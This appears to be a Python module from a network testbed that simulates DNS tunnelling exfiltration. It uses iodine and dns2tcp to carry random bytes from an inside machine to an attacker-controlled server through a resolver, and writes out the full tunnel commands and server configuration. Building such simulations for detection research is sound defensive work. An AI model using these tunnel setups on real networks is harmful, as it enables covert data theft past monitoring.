"""Tunnels over DNS: data leaves as questions to our resolver, which asks the attacker's server."""

from __future__ import annotations

from abc import abstractmethod
from dataclasses import dataclass

from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.network import Machine, tunnel_domain
from wirelens_testbed.scenario import Table

IODINE_PROGRAMS = {"iodine": "iodine", "iodined": "iodine", "socat": "socat"}
DNS2TCP_PROGRAMS = {"dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp", "socat": "socat"}
PROGRAMS = IODINE_PROGRAMS | DNS2TCP_PROGRAMS

IODINE_QUERY_TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME")
DNS2TCP_QUERY_TYPES = ("TXT", "KEY")

SINK_PORT, LOCAL_PORT = 9000, 9001
READY_TIME_MAX_S = 30.0
# iodine tries which size of answer comes through before it carries anything.
HANDSHAKE_PACKETS = 400
# A question carries at most 255 bytes of name; less is left of it by headers and encoding.
BYTES_PER_QUESTION = 40
IDLE_QUESTIONS_PER_S = 20


@dataclass
class Tunnel(Attack):
    """A tunnel through which some data is sent in portions."""

    name: str
    query_type: str
    payload_size_bytes: int
    portion_count: int
    duration_s: float
    needs: frozenset[str] = frozenset({"names"})
    machine_count: int = 2  # one inside, and the server outside that the questions end at

    def __post_init__(self) -> None:
        questions = HANDSHAKE_PACKETS + self.payload_size_bytes / BYTES_PER_QUESTION
        questions += IDLE_QUESTIONS_PER_S * self.duration_s
        # The question from inside, and the answer from the attacker's server.
        packets_max = OVERHEAD_PACKETS + round(2 * questions)
        self.bounds = Bounds(packets_max, self.duration_s + READY_TIME_MAX_S + 10)

    def launch(self, scene: Scene) -> dict[str, object]:
        inside, outside = scene.attackers
        sink = ["socat", "-u", f"TCP-LISTEN:{SINK_PORT},fork,reuseaddr", "OPEN:/dev/null"]
        programs = [scene.start_tool(outside, *sink)]
        try:
            programs.append(scene.start_tool(outside, *self.server_command(scene, outside)))
            scene.lab.wait_for_listener(outside.name, 53, "udp")
            programs.append(scene.start_tool(inside, *self.client_command(scene)))
            scene.lab.wait_until(
                lambda: self.is_ready(scene), f"{self.name} connected", READY_TIME_MAX_S
            )
            self._send(scene)
        finally:
            scene.lab.stop(*reversed(programs))
        return {"resolver": scene.servers["names"].address, "bytes": self.payload_size_bytes}

    def _send(self, scene: Scene) -> None:
        portion_size_bytes = self.payload_size_bytes // self.portion_count
        pause_s = self.duration_s / self.portion_count
        for _ in range(self.portion_count):
            data = scene.rng.randbytes(portion_size_bytes)
            scene.run_tool("socat", "-u", "-", self.entrance(scene), data_in=data)
            scene.lab.pause(pause_s * scene.rng.uniform(0.5, 1.0))

    @abstractmethod
    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        """What runs outside, in the foreground."""

    @abstractmethod
    def client_command(self, scene: Scene) -> list[str]:
        """What runs inside, in the foreground."""

    @abstractmethod
    def is_ready(self, scene: Scene) -> bool:
        """Whether data can be sent."""

    @abstractmethod
    def entrance(self, scene: Scene) -> str:
        """Where data goes in, in socat's words."""


class Iodine(Tunnel):
    """IP over DNS, by TUN devices at both ends."""

    programs = IODINE_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        return [
            "iodined", "-f", "-c", "-P", "tunnel", "-d", "dns0", "-l", outside.address,
            f"{_tunnel_network(scene)}.1/27", tunnel_domain(scene.number),
        ]  # fmt: skip

    def client_command(self, scene: Scene) -> list[str]:
        return [
            "iodine", "-f", "-r", "-P", "tunnel", "-d", "dns0", "-T", self.query_type,
            scene.servers["names"].address, tunnel_domain(scene.number),
        ]  # fmt: skip

    def is_ready(self, scene: Scene) -> bool:
        # The client gives its device an address once the server has told it one.
        addresses = scene.lab.run(scene.attacker.name, "ip", "-4", "-o", "address", "show")
        return f" {_tunnel_network(scene)}.".encode() in addresses

    def entrance(self, scene: Scene) -> str:
        return f"TCP:{_tunnel_network(scene)}.1:{SINK_PORT}"


class Dns2tcp(Tunnel):
    """One TCP connection over DNS."""

    programs = DNS2TCP_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        settings = scene.folder / "dns2tcpd.conf"
        settings.write_text(
            f"listen = {outside.address}\nport = 53\nuser = nobody\nchroot = {scene.folder}\n"
            f"domain = {tunnel_domain(scene.number)}\nkey = tunnel\n"
            f"resources = sink:127.0.0.1:{SINK_PORT}\n"
        )
        return ["dns2tcpd", "-F", "-d", "1", "-f", str(settings)]

    def client_command(self, scene: Scene) -> list[str]:
        return [
            "dns2tcpc", "-z", tunnel_domain(scene.number), "-k", "tunnel", "-r", "sink",
            "-l", str(LOCAL_PORT), "-T", self.query_type, scene.servers["names"].address,
        ]  # fmt: skip

    def is_ready(self, scene: Scene) -> bool:
        listeners = scene.lab.run(scene.attacker.name, "ss", "-Hltn", f"sport = :{LOCAL_PORT}")
        return bool(listeners)

    def entrance(self, scene: Scene) -> str:
        return f"TCP:127.0.0.1:{LOCAL_PORT}"


def _tunnel_network(scene: Scene) -> str:
    return f"172.29.{scene.number}"


def parse(name: str, table: Table) -> Attack:
    kind, types = {
        "iodine": (Iodine, IODINE_QUERY_TYPES),
        "dns2tcp": (Dns2tcp, DNS2TCP_QUERY_TYPES),
    }[name]
    return kind(
        name=name,
        query_type=table.take("query_type", str, types[0], among=types),
        payload_size_bytes=table.take("payload_bytes", int, 20_000, minimum=1, maximum=5_000_000),
        portion_count=table.take("portions", int, 4, minimum=1, maximum=100),
        duration_s=table.take("duration_s", float, 10.0, minimum=1, maximum=300),
    )


ATTACKS = dict.fromkeys(("iodine", "dns2tcp"), parse)
